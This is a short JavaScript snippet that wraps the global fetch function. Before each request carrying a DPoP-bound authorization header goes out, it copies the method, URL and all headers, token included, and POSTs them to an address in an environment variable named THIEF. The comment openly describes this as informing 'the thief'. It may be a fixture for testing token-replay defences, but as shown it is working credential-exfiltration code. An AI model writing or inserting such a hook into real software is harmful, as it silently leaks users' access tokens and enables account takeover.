// Tells the thief of each request with a bound token before it is sent, and waits until the thief is done with it.
const send = globalThis.fetch;
globalThis.fetch = async (url, options = {}) => {
  const headers = Object.fromEntries(new Headers(options.headers));
  if (headers.authorization?.startsWith("DPoP ")) {
    const request = { method: options.method ?? "GET", url: String(url), headers };
    await send(process.env.THIEF, { method: "POST", body: JSON.stringify(request) });
  }
  return send(url, options);
};
